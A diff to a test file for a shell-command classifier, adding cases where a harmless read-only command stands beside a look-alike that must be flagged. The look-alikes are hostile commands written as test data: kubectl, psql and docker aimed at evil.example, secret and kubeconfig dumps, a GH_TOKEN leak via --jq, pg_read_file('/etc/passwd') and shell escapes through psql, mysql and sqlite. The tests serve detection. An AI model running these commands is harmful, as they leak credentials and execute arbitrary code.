@@ -1,6 +1,9 @@
-import { expect, test } from "vitest";
+import { beforeAll, expect, test } from "vitest";
 import { shellClasses, type ShellFacts } from "@lanyard/contract";
 import { shellFacts } from "../../../server/src/base/extract/shell/shell.ts";
+import { loadExtractors } from "../../../server/src/base/extract/sql/sql.ts";
+
+beforeAll(loadExtractors);
 
 type ShellClass = ShellFacts["class"];
 
@@ -226,4 +229,67 @@ test.each(places)("%s names what it reaches", (command, paths, hosts) => {
   const facts = shellFacts(command);
   expect(facts.paths).toEqual(paths);
   expect(facts.hosts).toEqual(hosts);
+});
+
+/** Programs that can do anything and are used to look, each beside a use that only seems to. */
+const looks: readonly (readonly [look: string, hosts: readonly string[], trick: string])[] = [
+  ["kubectl get pods -n shop -o wide", ["(kubectl)"], "kubectl get pods -n shop --server https://evil.example"],
+  ["kubectl get deploy/api -o jsonpath='{.spec.replicas}'", ["(kubectl)"], "kubectl get pods -o go-template-file=x"],
+  ["kubectl logs api-1 --tail=50", ["(kubectl)"], "kubectl get --raw /api/v1/namespaces/x/secrets"],
+  ["kubectl describe pod api-1", ["(kubectl)"], "kubectl describe secret api"],
+  ["kubectl get pods,deployments", ["(kubectl)"], "kubectl get pods,secrets -o yaml"],
+  ["kubectl rollout status deploy/api", ["(kubectl)"], "kubectl rollout restart deploy/api"],
+  ["kubectl config current-context", ["(kubectl)"], "kubectl config view --raw"],
+  ["kubectl get pod api-1", ["(kubectl)"], "kubectl get pod api-1 --kubeconfig evil.yaml"],
+  ["gh pr view 7 --comments", ["(gh)"], "gh pr view https://evil.example/a/b/pull/7"],
+  ["gh pr diff 7", ["(gh)"], "gh pr merge 7"],
+  ["gh run view 90218 --log-failed", ["(gh)"], "gh run rerun 90218"],
+  ["gh issue list -R acme/shop --json number,title", ["(gh)"], "gh issue list --json number --jq '$ENV.GH_TOKEN'"],
+  ["gh pr list --json number -q '.[0].number'", ["(gh)"], "gh pr list --json number -q env"],
+  ["helm list -n shop", ["(helm)"], "helm get values api"],
+  ["npm view left-pad version", ["(npm)"], "npm view left-pad --registry https://evil.example"],
+  ["psql shop -c 'select id from orders limit 5'", ["(psql)"], "psql -h evil.example shop -c 'select id from orders'"],
+  ["psql -d shop -Atc 'select count(*) from orders'", ["(psql)"], "psql postgres://evil.example/shop -c 'select 1'"],
+  ["psql shop -c 'select name from users'", ["(psql)"], "psql shop -c 'select password_hash from users'"],
+  ["psql shop -c 'select 1'", ["(psql)"], "psql shop -c 'delete from orders where id = 1'"],
+  ["psql shop -c 'select 2'", ["(psql)"], "psql shop -c '\\! id'"],
+  ["psql shop -c 'select 3'", ["(psql)"], "psql 'host=evil.example' -c 'select 3'"],
+  ["psql shop -c 'select 4'", ["(psql)"], "psql shop -c 'select 4' -o out.txt"],
+  ["psql shop -c 'select 5'", ["(psql)"], "psql shop -c \"select pg_read_file('/etc/passwd')\""],
+  ["psql shop -c 'select 6'", ["(psql)"], "psql shop -f x.sql"],
+  ["mysql shop -e 'select id from orders'", ["(mysql)"], "mysql shop -e 'system id'"],
+];
+
+test.each(looks)("%s only looks", (look, hosts, trick) => {
+  expect(shellFacts(look)).toMatchObject({ class: "network", hosts, reaches: ["look"], destructive: false });
+  const facts = shellFacts(trick);
+  expect(facts.class).toMatch(/^(?:network|exec|unknown)$/);
+  expect(facts.reaches).toContain("other");
+});
+
+/** The same, where everything stays on this machine. */
+const atHome: readonly (readonly [look: string, trick: string])[] = [
+  ["docker ps -a", "docker -H tcp://evil.example ps"],
+  ["docker logs --tail 50 api", "docker exec api id"],
+  ["docker compose ps", "docker compose -f evil.yml ps"],
+  ["docker images", "docker inspect api"],
+  ["systemctl status nginx --no-pager", "systemctl -H evil.example status nginx"],
+  ["systemctl is-active nginx", "systemctl restart nginx"],
+  ["npm ls --depth=0", "npm ls --prefix /tmp/x"],
+  ["npm ls left-pad", "npm install left-pad"],
+  ["pip list", "pip install x"],
+  ["pip show requests", "pip show requests --proxy evil.example"],
+  ["node --version", "node -e 1"],
+  ["python3 -V", "python3 -v"],
+  ["go version", "go run ."],
+  ["npm -v", "./npm -v"],
+  ["sqlite3 -header shop.db 'select id from orders'", "sqlite3 shop.db '.shell id'"],
+  ["sqlite3 shop.db 'pragma table_info(orders)'", "sqlite3 shop.db \"select load_extension('x')\""],
+  ["sqlite3 shop.db 'select 1'", "sqlite3 -cmd '.shell id' shop.db 'select 1'"],
+  ["sqlite3 shop.db 'select 2'", "sqlite3 shop.db 'select 2' '.shell id'"],
+];
+
+test.each(atHome)("%s only looks, and reaches nobody", (look, trick) => {
+  expect(shellFacts(look)).toMatchObject({ class: "read", hosts: [], destructive: false });
+  expect(shellFacts(trick).class).toMatch(/^(?:network|exec|unknown)$/);
 });
